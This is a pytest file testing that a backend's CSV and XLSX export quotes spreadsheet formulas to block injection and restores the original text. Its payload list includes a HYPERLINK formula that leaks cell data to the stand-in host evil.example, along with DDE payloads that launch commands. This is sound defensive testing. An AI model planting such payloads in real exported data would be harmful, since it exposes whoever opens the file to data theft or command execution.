"""Cells of exported tables: text that a spreadsheet would run is quoted, and reads back."""
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from backend.core.tabular import csv_cell, neutralise, restore_cell, xlsx_row

# The payloads from the OWASP page on CSV injection and from the issue.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "+77011234567",
]
HARMLESS = ["Абай", "Ахметова-Серікқызы", "12К", "'Abai", "", "a=b", "дом 5-а", "#"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert neutralise(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert neutralise(text) == text
    assert restore_cell(text) == text


@pytest.mark.parametrize("text", [*PAYLOADS, *HARMLESS, "'=1+1", "''-2", "'''@x", "'", "''"])
def test_restoring_gives_back_exactly_what_was_written(text):
    assert restore_cell(neutralise(text)) == text


def test_numbers_and_dates_are_not_quoted():
    assert csv_cell(-2) == "-2"
    assert csv_cell(-54.5) == "-54.5"
    assert csv_cell(Decimal("-1.5")) == "-1.5"
    assert csv_cell(-3, number=lambda v: f"{v:g}".replace(".", ",")) == "-3"
    assert csv_cell(datetime.date(1948, 3, 12)) == "1948-03-12"
    assert csv_cell(None) == ""
    assert restore_cell(-2) == -2


def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    sheet.append(xlsx_row(sheet, [*PAYLOADS, "#N/A", "Абай", None, -2, 4.5,
                                  datetime.date(2027, 12, 31)]))
    out = io.BytesIO()
    book.save(out)

    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
    for text, cell in zip(PAYLOADS, cells, strict=False):
        assert cell.data_type == "s", text
        xml_text = text.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert cell.value == "'" + xml_text
        assert restore_cell(cell.value) == xml_text
    rest = cells[len(PAYLOADS):]
    assert [(c.data_type, c.value) for c in rest[:5]] == [
        ("s", "#N/A"), ("s", "Абай"), ("n", None), ("n", -2), ("n", 4.5)]
    assert rest[5].is_date and rest[5].value.date() == datetime.date(2027, 12, 31)
